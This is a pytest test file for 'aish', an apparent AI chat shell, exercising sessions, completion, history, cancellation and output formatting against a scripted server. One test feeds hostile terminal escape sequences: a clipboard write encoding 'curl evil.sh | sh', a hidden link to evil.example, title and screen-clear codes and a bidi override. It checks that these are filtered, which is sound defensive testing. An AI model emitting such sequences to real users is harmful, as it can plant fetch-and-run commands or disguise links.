"""The real `aish` in a pseudo-terminal, as a person uses it (pexpect).

The transcript test uses the embedded model; the others use a scripted OpenAI-compatible
server (tests/fault_server.py) so that replies are slow or hostile on purpose.
"""

from __future__ import annotations

import json
import re
import stat
import subprocess
import sys
from pathlib import Path

import pytest
from fault_server import FaultServer
from shell_support import BIN, Term, session_records

SID = r"(sess_[a-z0-9]{6})"


def start(terms, env, *args, **kw) -> Term:
    term = Term(env, *args, **kw)
    terms.append(term)
    return term


@pytest.mark.model
def test_transcript_with_the_embedded_model(term_env, terms, sessions_dir):
    t = start(terms, term_env)
    t.expect(r"aish 0\.1\.0 — AI specialists: apollo, athena, hermes, prometheus")
    t.expect(r"aish> ")
    t.line("apollo --session")
    t.expect("Welcome to session mode with apollo-ai")
    sid = t.expect(rf"Session ID: {SID}").group(1)
    t.expect("Type 'exit' to end session, 'save' to save context")
    t.expect(re.escape(f"apollo (session: {sid})> "))
    t.expect(rf"session {sid} │ window 0/10 │ apollo │ model SmolLM2")
    t.line("Hello, I need help with database design")
    t.expect(r"apollo> ", timeout=90)
    reply = t.expect(r"\n(.+?)\n", timeout=90).group(1)
    assert reply.strip()
    t.expect(re.escape("apollo (session)> "), timeout=90)
    t.expect(r"window 1/10")
    t.line("context")
    t.expect("Using 1/10 context window")
    t.expect(r"Oldest message: (just now|\d+ seconds? ago)")
    t.line("info")
    t.expect(f"Session: {sid}")
    t.expect("AI: apollo-ai")
    t.expect("Messages: 2")
    t.expect(r"Context used: 1/10")
    t.line("save")
    t.expect(re.escape(f"Session saved to ~/.aish/sessions/{sid}"))
    t.line("exit")
    t.expect("Session ended")
    t.expect("aish> ")
    t.line("--list-sessions --all")
    t.expect(rf"{sid}\s+apollo-ai\s+ended\s+2")
    t.send("\x04")
    assert t.wait() == 0
    records = session_records(sessions_dir, sid)
    messages = [r for r in records if r["t"] == "msg"]
    assert [m["role"] for m in messages] == ["user", "assistant"]
    assert messages[0]["content"] == "Hello, I need help with database design"


@pytest.mark.model
def test_llama_cpp_logs_never_reach_the_terminal(term_env, terms):
    """llama.cpp logs as it loads the model and creates its context, during the first reply
    (with the live area up); none of that may show between the message and the reply."""
    t = start(terms, term_env)
    t.expect(r"aish> ")
    t.line("apollo --session")
    t.expect("Type 'exit' to end session")
    t.line("Hello")
    t.expect(r"apollo> ", timeout=300)
    t.expect(re.escape("apollo (session)> "), timeout=300)
    shown = t.text
    assert "Hello" in shown
    assert "llama_" not in shown and "n_ctx" not in shown, shown
    t.send("\x04")  # leaves the session, then the shell
    t.expect("it stays active")
    t.expect(r"aish> ")
    t.send("\x04")
    assert t.wait() == 0


def test_tab_completion(term_env, terms):
    t = start(terms, term_env)
    t.expect("aish> ")
    t.send("apol\t")
    t.expect("apollo")
    t.send("--sess\t")
    t.expect("--session-id")  # the menu shows both choices
    t.send("\x15")  # Ctrl-U: clear the line
    t.send("--list-s\t")
    t.expect("--list-sessions")
    t.settle()
    t.send("\r")
    t.expect("No active sessions.")
    t.expect("aish> ")
    t.line("apollo --session")
    t.expect(rf"Session ID: {SID}")
    t.expect(r"\(session: ")
    t.send("cont\t")
    t.settle()
    t.send("\r")
    t.expect("Using 0/10 context window")
    t.send("/exi\t")
    t.settle()
    t.send("\r")
    t.expect("it had no messages, so nothing was stored")
    t.expect("aish> ")
    t.line("apollo --session --get-id")  # an empty session that does exist, to complete
    sid = t.expect(rf"\n{SID}\s").group(1)
    t.expect("aish> ")
    t.send("--end-session sess_\t")
    t.settle()
    t.send("\r")
    t.expect(f"Session {sid} ended")
    t.line("exit")
    assert t.wait() == 0


def test_history_persists_across_runs(term_env, terms, home):
    t = start(terms, term_env)
    t.expect("aish> ")
    t.line("--version")
    t.expect(r"aish 0\.1\.0\n")
    t.send("\x04")
    assert t.wait() == 0
    history = Path(home["HOME"]) / ".local" / "state" / "aish" / "history"
    assert "--version" in history.read_text()
    assert stat.S_IMODE(history.stat().st_mode) == 0o600

    again = start(terms, term_env)
    again.expect("aish> ")
    again.send("\x1b[A")  # Up: the previous run's line comes back
    again.expect("--version")
    again.settle()
    again.send("\r")
    again.expect(r"aish 0\.1\.0\n")
    again.line("quit")
    assert again.wait() == 0


def test_ctrl_c_cancels_a_slow_reply_and_the_session_lives_on(term_env, terms, sessions_dir):
    paragraphs = [f"Paragraph {i} of a long story.\n\n" for i in range(200)]
    with FaultServer(chunks=paragraphs, delay=0.1) as server:
        env = {**term_env, "OPENAI_BASE_URL": server.base}
        t = start(terms, env)
        t.expect("aish> ")
        t.line("apollo --session")
        sid = t.expect(rf"Session ID: {SID}").group(1)
        t.expect(r"\(session: ")
        t.line("tell me a long story")
        t.expect("apollo> ")
        t.expect("Paragraph 3 of a long story")
        t.send("\x03")
        t.expect(r"reply interrupted; what arrived is kept")
        t.expect(re.escape("apollo (session)> "))
        assert server.cancelled.wait(60), "the request went on after Ctrl-C"
        t.line("info")
        t.expect("Messages: 2")
        t.line("exit")
        t.expect("Session ended")
        t.expect("aish> ")
        t.line("athena tell me another")  # a one-shot question is cancelled the same way
        t.expect("Paragraph 2 of a long story")
        t.send("\x03")
        t.expect("interrupted")
        t.expect("aish> ")
        t.line("--version")
        t.expect(r"aish 0\.1\.0\n")
        t.send("\x04")
        assert t.wait() == 0
    reply = [r for r in session_records(sessions_dir, sid) if r["t"] == "msg"][-1]
    assert reply["role"] == "assistant" and reply["interrupted"] is True
    assert reply["content"].startswith("Paragraph 0 of a long story.\n\nParagraph 1 ")
    assert "Paragraph 199" not in reply["content"]


HOSTILE = [
    "Here is your answer.\n\n",
    "Clipboard: \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done.\n\n",
    "A [link](https://example.com) and \x1b]8;;https://evil.example/\x1b\\click here",
    "\x1b]8;;\x1b\\ hidden.\n\n",
    "Clear: \x1b[2",  # a sequence split across two chunks
    "J and title \x1b]0;pwned\x07 and bidi \u202eevil\u202c.\n",
]
FORBIDDEN = ("\x1b]52", "\x1b]8;", "\x1b[2J", "\x1b]0;", "pwned\x07", "\u202e")


def test_hostile_escape_sequences_never_reach_the_terminal(term_env, terms):
    with FaultServer(chunks=HOSTILE) as server:
        env = {**term_env, "OPENAI_BASE_URL": server.base}
        t = start(terms, env)
        t.expect("aish> ")
        t.line("athena say something")  # a one-shot question
        t.expect("click here")
        t.expect("aish> ")
        t.line("apollo --session")
        t.expect(r"\(session: ")
        t.line("say something")
        t.expect("apollo> ")
        t.expect("click here")
        t.expect(re.escape("apollo (session)> "))
        t.send("\x04")
        t.expect("aish> ")
        t.send("\x04")
        assert t.wait() == 0
    raw = t.raw
    for bad in FORBIDDEN:
        assert bad not in raw, f"{bad!r} reached the terminal"
    assert raw.count("\u241b") >= 6  # each removed sequence is shown as ␛


def test_no_color(term_env, terms):
    with FaultServer(chunks=["# Title\n\n", "```python\nx = 1\n```\n"]) as server:
        env = {**term_env, "OPENAI_BASE_URL": server.base, "NO_COLOR": "1"}
        t = start(terms, env, "--session", "apollo")
        t.expect(r"\(session: ")
        t.line("hi")
        t.expect("x = 1")
        t.expect(re.escape("apollo (session)> "))
        t.send("\x04")
        assert t.wait() == 0
    colours = re.findall(r"\x1b\[[0-9;]*(?:3[0-8]|4[0-8]|9[0-7]|10[0-7])[;m]", t.raw)
    assert colours == []


def test_editor_opens_on_ctrl_x_ctrl_e(term_env, terms, tmp_path):
    editor = tmp_path / "fake-editor"
    editor.write_text('#!/bin/sh\nprintf -- "--version" > "$1"\n')
    editor.chmod(0o755)
    t = start(terms, {**term_env, "EDITOR": str(editor), "VISUAL": str(editor)})
    t.expect("aish> ")
    t.send("\x18\x05")  # Ctrl-X Ctrl-E: edit, then run what the editor left
    t.expect(r"aish 0\.1\.0\n")
    t.line("exit")
    assert t.wait() == 0


def test_straight_into_session_mode_and_ctrl_d_leaves_no_empty_session(term_env, terms, aish,
                                                                      sessions_dir):
    t = start(terms, term_env, "--session", "hermes", "--session-id", "learn-rust")
    t.expect("Welcome to session mode with hermes-ai")
    t.expect("Session ID: learn-rust")
    t.expect(re.escape("hermes (session: learn-rust)> "))
    t.send("\x04")
    t.expect(r"Left session learn-rust; it had no messages, so nothing was stored")
    assert t.wait() == 0
    assert json.loads(aish("aish", "--list-sessions", "--all", "--json").stdout) == []
    assert not (sessions_dir / "learn-rust.jsonl").exists()


def test_auto_save_off_asks_before_leaving(term_env, terms, sessions_dir):
    with FaultServer(chunks=["fine, thanks"]) as server:
        env = {**term_env, "OPENAI_BASE_URL": server.base}
        t = start(terms, env)
        t.expect("aish> ")
        t.line("apollo --session --auto-save 0")
        sid = t.expect(rf"Session ID: {SID}").group(1)
        t.expect(r"\(session: ")
        t.line("how are you?")
        t.expect("fine, thanks")
        t.expect(r"unsaved 2")  # the toolbar counts them
        t.line("exit")
        t.expect(r"Save 2 unsaved messages before leaving\? \[Y/n\]")
        t.line("y")
        t.expect(re.escape(f"Session saved to ~/.aish/sessions/{sid}"))
        t.expect("Session ended")
        t.line("exit")
        assert t.wait() == 0
    assert len([r for r in session_records(sessions_dir, sid) if r["t"] == "msg"]) == 2


def test_script_mode_runs_lines_from_stdin(home):
    script = "--version\n# a comment\n--list-sessions\nbogus\n"
    result = subprocess.run([str(BIN / "aish")], input=script.encode(), capture_output=True,
                            env=home, timeout=600)
    assert result.stdout.decode().splitlines()[0] == "aish 0.1.0"
    assert "No active sessions." in result.stderr.decode()
    assert "unknown command or specialist 'bogus'" in result.stderr.decode()
    assert result.returncode == 2  # the status of the last command


def test_script_drives_session_mode(home):
    with FaultServer(chunks=["hello ", "there"]) as server:
        script = "apollo --session\nHi\ncontext\nexit\n--list-sessions --all\n"
        result = subprocess.run([str(BIN / "aish")], input=script.encode(), capture_output=True,
                                env={**home, "OPENAI_BASE_URL": server.base}, timeout=600)
    out, err = result.stdout.decode(), result.stderr.decode()
    assert result.returncode == 0, err
    assert "apollo> hello there" in out
    assert "Using 1/10 context window" in out
    assert "Session ended" in err
    assert re.search(r"sess_\w+\s+apollo-ai\s+ended\s+2", out)


def test_management_commands_do_not_load_the_shell(home):
    code = ("import sys\nfrom aish.cli import main\nmain(['--list-sessions'])\n"
            "heavy = [m for m in sys.modules if m.startswith(('prompt_toolkit', 'rich', "
            "'pygments', 'openai', 'llama_cpp'))]\nprint('HEAVY', heavy)\n")
    result = subprocess.run([sys.executable, "-c", code], capture_output=True, env=home,
                            timeout=600)
    assert "HEAVY []" in result.stdout.decode(), result.stdout.decode() + result.stderr.decode()



@pytest.mark.parametrize("no_color", [False, True])
def test_the_reply_starts_on_the_speakers_line(no_color, term_env, terms):
    reply = ["What kind of web app ", "are you **building**?\n\n", "- a list\n- below it\n"]
    with FaultServer(chunks=reply) as server:
        env = {**term_env, "OPENAI_BASE_URL": server.base}
        if no_color:
            env["NO_COLOR"] = "1"
        t = start(terms, env)
        t.expect("aish> ")
        t.line("apollo --session")
        t.expect(r"\(session: ")
        t.line("I want to build a web app")
        t.expect(r"apollo> What kind of web app are you building\?")
        t.expect("• a list")  # Markdown layout, with colour or without
        t.expect(re.escape("apollo (session)> "))
        assert not re.search(r"apollo> *\n", t.text), "the prefix alone on its line"
        t.line("exit")
        t.expect("Session ended")
        t.line("exit")
        assert t.wait() == 0
